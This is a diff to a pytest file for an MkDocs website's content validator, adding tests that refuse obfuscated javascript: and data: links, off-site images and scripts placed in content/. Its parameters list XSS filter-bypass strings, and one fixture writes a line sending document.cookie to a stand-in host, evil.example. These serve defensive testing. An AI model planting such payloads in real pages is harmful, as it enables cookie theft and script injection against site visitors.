@@ -16,6 +16,7 @@ import pytest
 
 from conftest import ROOT, wegwijzer
 from wegwijzer.site.config import ConfigError, read_site_config
+from wegwijzer.site.content import page_problems, unsafe_files
 
 DEVELOPERS = "@wegwijzer-jeugd-en-veiligheid/ontwikkelaars"
 SHIPPED_CONFIG = (ROOT / "mkdocs.yml").read_text(encoding="utf-8")
@@ -166,3 +167,47 @@ def test_22_1_editors_own_the_data_and_every_owner_is_a_team():
         if line.strip() and not line.startswith("#"):
             _, *names = line.split()
             assert names and all(name.startswith("@") for name in names), line
+
+
+# 2. content/: links read as browsers read them, and no scripts -------------------------------------------
+
+
+@pytest.mark.parametrize("href", [
+    "java&#9;script:alert(1)", "java&#10;script:alert(1)", "java&#13;script:alert(1)", "&#1;javascript:alert(1)",
+    " &#31; javascript:alert(1)", "jav&Tab;ascript:alert(1)", "\x01javascript:alert(1)", "java\tscript:alert(1)",
+    "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "&#32;//evil.example/x", "/\\evil.example",
+])
+def test_22_2_links_a_browser_reads_as_script_or_elsewhere_are_refused(href):
+    html = f'<p>Lees <a href="{href}">dit</a>.</p>'
+    [problem] = page_problems(html, f"# Over\n\n{html}\n", "content/over.md")
+    assert problem.line == 3 and problem.message.startswith("link `") and "is niet toegestaan" in problem.message
+
+
+@pytest.mark.parametrize("src", ["&#9;https://tracker.example/p.png", "\x01//tracker.example/p.png",
+                                 "\\\\tracker.example\\p.png"])
+def test_22_2_images_from_elsewhere_are_refused_however_written(src):
+    [problem] = page_problems(f'<p><img alt="x" src="{src}"></p>', "", "content/over.md")
+    assert "een afbeelding moet in content/ staan" in problem.message
+
+
+def test_22_2_links_that_stay_in_the_site_or_go_to_the_web_are_fine():
+    html = ('<p><a href="interventies/">a</a> <a href="#doel">b</a> <a href="https://www.nji.nl/">c</a> '
+            '<a href="mailto:info@example.org">d</a> <img alt="e" src="assets/images/e.png"></p>')
+    assert page_problems(html, "", "content/over.md") == []
+
+
+def test_22_2_a_script_in_content_is_refused(tmp_path):
+    """A content-only pull request could append code to a script every page loads; the site's own scripts
+    live in overrides/ now (owned by the developers), and content/ publishes none."""
+    root = project_copy(tmp_path)
+    scripts = root / "content" / "assets" / "javascripts" / "wegwijzer"
+    scripts.mkdir(parents=True)
+    (scripts / "finder.js").write_text("fetch('https://evil.example/?' + document.cookie);\n", encoding="utf-8")
+    (root / "content" / "extra.mjs").write_text("export {};\n", encoding="utf-8")
+    messages = [problem.format() for problem in unsafe_files(root / "content")]
+    assert any(m.startswith("content/assets/javascripts/wegwijzer/finder.js:1:1: (bestand): scripts worden niet")
+               for m in messages), messages
+    assert any(m.startswith("content/extra.mjs:1:1:") for m in messages), messages
+    assert not list((ROOT / "content").rglob("*.js"))
+    assert (ROOT / "overrides" / "assets" / "javascripts" / "wegwijzer" / "finder.js").is_file()
+    assert _owners("overrides/assets/javascripts/wegwijzer/finder.js") == [DEVELOPERS]
